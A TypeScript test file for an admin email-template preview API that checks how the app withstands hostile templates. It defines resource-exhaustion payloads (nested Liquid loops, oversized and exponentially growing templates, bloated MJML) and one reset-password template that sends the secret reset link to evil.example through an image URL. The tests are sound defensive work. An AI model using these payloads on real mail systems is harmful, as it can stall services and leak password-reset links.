import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { setTimeout as sleep } from 'node:timers/promises'
import { send, signIn, type SignedIn } from '../../../../test/helpers/admin.ts'
import { createTestApp, type TestApp } from '../../../../test/helpers/app.ts'
import { until } from '../../../../test/helpers/until.ts'

const PATH = '/api/admin/email-templates'
/** Cheap by Liquid’s own limits, because each step of a filter counts little, but it runs for seconds. */
const LOOP = '{% for i in (1..900) %}{% for j in (1..900) %}{% if i == j %}x{% endif %}{% endfor %}{% endfor %}'
/** Blocks before any of Liquid’s limits applies: parsing has none in time. */
const LONG = '{{ service }}'.repeat(15_000)
const GROWING = `{% assign a = 'xxxxxxxxxxxxxxxx' %}{% for i in (1..40) %}{% assign a = a | append: a %}{% endfor %}{{ a }}`
const MJML = `<mj-section><mj-column>${'<mj-table><tr><td>x</td></tr></mj-table><mj-button href="https://a.example/">x</mj-button>'.repeat(1_500)}</mj-column></mj-section>`
const TAKES_TOO_LONG = /takes too long|limit exceeded|too long/
/** Far below what one of them takes on the event loop. */
const MAX_HELD_MS = 300

/** The longest time that the event loop was blocked, as its own processor time: wall time on a busy machine would also measure other processes. */
function watchHolds(): { end(): number } {
  let [worst, last] = [0, process.threadCpuUsage()]
  const timer = setInterval(() => {
    const used = process.threadCpuUsage(last)
    worst = Math.max(worst, (used.user + used.system) / 1_000)
    last = process.threadCpuUsage()
  }, 2)
  return {
    end() {
      clearInterval(timer)
      return worst
    },
  }
}

describe('hostile templates', () => {
  let app: TestApp
  let editor: SignedIn
  before(async () => {
    app = await createTestApp()
    editor = await signIn(app, 'editor')
  })
  after(() => app.close())
  const preview = (sources: object, id = 'weekly-digest') => send(app, `${PATH}/${id}/preview`, { headers: editor.headers, body: sources })

  it('seven at once block nothing, and each answer names the reason', async () => {
    await preview({ subject: 'x' })
    const hold = watchHolds()
    const hostile = Promise.all(Array.from({ length: 7 }, (_, i) => preview([{ mjml: MJML }, { text: LOOP }, { text: LONG }][i % 3] ?? {})))
    let answered = 0
    const over = new AbortController()
    const publicly = (async () => {
      while (!over.signal.aborted) {
        assert.equal((await app.get('/api/health')).status, 200)
        answered++
        // Pace it like a visitor: without the pause it used more processor time than the templates.
        await sleep(10)
      }
    })()
    const answers = await hostile.finally(() => over.abort())
    await publicly
    const heldMs = hold.end()
    for (const { status, body } of answers) {
      if (status === 200) continue
      assert.equal(status, 400)
      assert.match(body.details[0].message, TAKES_TOO_LONG)
    }
    assert.ok(answers.filter(({ status }) => status === 400).length >= 4)
    assert.ok(heldMs < MAX_HELD_MS, `${Math.round(heldMs)} ms`)
    assert.ok(answered > 7, `${answered} answers meanwhile`)
    assert.equal((await preview({ subject: 'Fine' })).status, 200)
  })

  it('excess requests are refused for some seconds', async () => {
    const answers = await Promise.all(Array.from({ length: 40 }, (_, i) => preview(i < 4 ? { text: LOOP } : { subject: 'x' })))
    const refused = answers.filter(({ status }) => status === 503)
    assert.ok(refused.length > 0 && refused.every(({ headers }) => headers.get('retry-after') === '5'))
    assert.equal((await preview({ subject: 'Fine' })).status, 200)
  })

  it('400 for output that grows without end', async () => {
    const { status, body } = await preview({ text: GROWING })
    assert.equal(status, 400)
    assert.match(body.details[0].message, /memory/)
  })

  it('a stored one delays no mail: the shipped one is sent, and the list shows why', async () => {
    const good = await app.database.pool.query(
      `insert into email_template (id, subject, mjml, body_text, version, updated_at) values
        ('confirm-subscription', 'x', '<mj-section></mj-section>', $1, 77, now()),
        ('reset-password', 'x', '<mj-section><mj-column><mj-image src="https://evil.example/?u={{ url }}" /></mj-column></mj-section>', 'x', 78, now())`,
      [LOOP],
    )
    assert.equal(good.rowCount, 2)
    const next = await createTestApp({ sharing: app })
    try {
      let faults: (string | null)[] = []
      await until('both mails were attempted', async () => {
        const { items } = (await next.get(`${PATH}?edited=true`, editor.headers)).body
        faults = (items as { fault: string | null }[]).map(({ fault }) => fault)
        return faults.length === 2 && faults.every((fault) => fault !== null)
      })
      assert.match(faults[0] ?? '', TAKES_TOO_LONG)
      assert.match(faults[1] ?? '', /secret link/)
      assert.ok(next.logLines.some((line) => line.includes('an edited mail template cannot be used') && line.includes('reset-password')))
      const test = (template: string) =>
        send(next, '/api/admin/email/test', { headers: editor.headers, body: { to: 'a@example.org', template } })
      assert.equal((await test('confirm-subscription')).body.mail.state, 'sent')
      assert.equal((await test('reset-password')).status, 403)
    } finally {
      await next.close()
    }
  })
})
